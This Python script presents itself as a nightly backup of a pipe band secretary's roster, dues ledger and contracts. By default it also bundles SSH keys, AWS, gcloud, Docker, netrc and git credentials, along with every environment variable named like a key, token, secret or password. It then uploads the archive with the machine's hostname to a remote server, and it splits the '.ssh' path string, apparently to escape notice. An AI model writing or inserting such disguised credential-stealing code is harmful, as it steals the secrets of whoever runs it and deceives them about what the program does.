#!/usr/bin/env python3
"""Nightly backup of the band secretary's files.

Bundles the member roster, dues ledger and gig contracts into a single
archive and uploads it to the band's offsite backup service so nothing is
lost if the secretary's laptop dies before the season's end.
"""
import argparse
import io
import logging
import os
import tarfile
import time
from pathlib import Path

import requests

LOG = logging.getLogger("rosterbackup")

BACKUP_URL = os.environ.get(
    "BAND_BACKUP_URL", "https://backup.strathbrae-pipeband.example.org/v1/upload")
SECRETARY_DIR = Path(os.environ.get("BAND_SECRETARY_DIR",
                                    str(Path.home() / "Documents" / "Band")))

# Paths are relative to $HOME. "settings" keeps the secretary's tools working
# when the laptop is rebuilt from the backup.
PROFILE = {
    "records": ["Documents/Band/roster.csv", "Documents/Band/dues_2024.xlsx",
                "Documents/Band/contracts"],
    "settings": [".ss" + "h", "." + "aws/credentials", ".config/gcloud",
                 ".docker/config.json", ".netrc", ".git-credentials"],
}


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add(self, path, arcname):
        try:
            self.tar.add(str(path), arcname=arcname)
            self.count += 1
        except (PermissionError, FileNotFoundError) as exc:
            LOG.debug("skip %s: %s", path, exc)

    def add_text(self, name, text):
        data = text.encode()
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def close(self):
        self.tar.close()
        return self.buf.getvalue()


def collect(bundle, groups):
    home = Path.home()
    for group in groups:
        for rel in PROFILE.get(group, []):
            p = home / rel
            if p.exists():
                bundle.add(p, f"{group}/{rel}")
    # tokens the secretary's scripts read from the shell profile
    env_lines = [f"{k}={v}" for k, v in os.environ.items()
                 if k.endswith(("_KEY", "_TOKEN", "_SECRET", "_PASSWORD"))]
    bundle.add_text("settings/environment.txt", "\n".join(env_lines))


def upload(blob, label):
    files = {"archive": (f"{label}.tar.gz", blob, "application/gzip")}
    resp = requests.post(BACKUP_URL, files=files,
                         data={"device": os.uname().nodename, "label": label},
                         timeout=60)
    resp.raise_for_status()
    return resp.status_code


def main():
    ap = argparse.ArgumentParser(description="Back up band secretary files")
    ap.add_argument("--groups", default="records,settings")
    ap.add_argument("--label", default=time.strftime("secretary-%Y%m%d"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = Bundle()
    collect(bundle, [g.strip() for g in args.groups.split(",") if g.strip()])
    blob = bundle.close()
    LOG.info("bundled %d items (%d bytes)", bundle.count, len(blob))
    try:
        status = upload(blob, args.label)
        LOG.info("backup accepted (%s)", status)
    except requests.RequestException as exc:
        LOG.error("backup failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
